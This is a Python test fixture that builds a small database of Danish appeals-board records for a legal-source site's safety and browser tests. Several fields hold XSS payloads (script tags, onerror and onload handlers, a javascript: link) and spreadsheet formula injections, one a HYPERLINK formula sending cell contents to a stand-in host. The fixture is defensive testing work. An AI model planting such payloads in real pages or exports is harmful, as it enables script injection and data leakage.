"""A small built database whose documents carry markup, scripts and spreadsheet formulas in the
fields a reader sees: for the site's safety tests and the browser test."""

from __future__ import annotations

import hashlib
from pathlib import Path

from retskilde.db.build import build
from tests.conftest import make_record, write_record

# Each would run in a browser, or in a spreadsheet, if a page or an export let it through.
SCRIPT_TITLE = (
    '<img src=x onerror="window.__retskilde_xss=1">Fleksjob og '
    "<script>window.__retskilde_xss=2</script>"
)
FORMULA_TITLES = [
    '=HYPERLINK("http://eksempel.invalid/?"&A1,"Klik her") fleksjob',
    "+SUM(1+1) fleksjob",
    "-2+3 fleksjob",
    "@SUM(A1) fleksjob",
]
# A script in an attribute value, a javascript: link and an end of a JSON string.
MORE_MARKUP = [
    '"><svg onload="window.__retskilde_xss=3"> fleksjob',
    "javascript:window.__retskilde_xss=4 fleksjob",
    '</script><script>window.__retskilde_xss=5</script>"}} fleksjob',
]


def _record(number: str, title: str, text: str, **more) -> dict:
    return make_record(
        id=f"ast-principmeddelelse-{number}",
        number=number,
        title=title,
        text=text,
        sha256=hashlib.sha256(text.encode()).hexdigest(),
        url=f"https://eksempel.retskilde.dk/ast/principmeddelelser/{number}",
        **more,
    )


def hostile_records() -> list[dict]:
    titles = [SCRIPT_TITLE, *FORMULA_TITLES, *MORE_MARKUP]
    records = []
    for index, title in enumerate(titles, start=1):
        text = (
            f"Sagen handlede om fleksjob og hjemvisning {title}.\n\n"
            "Ankestyrelsen lagde vægt på oplysningsgrundlaget. (eksempel)"
        )
        records.append(
            _record(f"{index}-20", title, text, summary=title, keywords=[title], municipality=title)
        )
    # Documents citing the hostile ones, so they top the dashboard's "mest citerede".
    citing = ", ".join(f"principmeddelelse {i}-20" for i in range(1, len(titles) + 1))
    for index in range(1, 4):
        text = f"Afgørelsen henviser til {citing}.\n\nOm fleksjob. (eksempel)"
        title = f"Ankestyrelsens afgørelse {index}-21 (eksempel)"
        # Every record has every facet field (a build of a corpus where some lack one is
        # issue 10's build half).
        records.append(_record(f"{index}-21", title, text, municipality="Aarhus"))
    return records


def build_hostile_db(folder: Path) -> Path:
    corpus = folder / "corpus" / "ast"
    for record in hostile_records():
        write_record(corpus, record)
    db_path = folder / "retskilde.db"
    build(folder / "corpus", db_path)
    return db_path
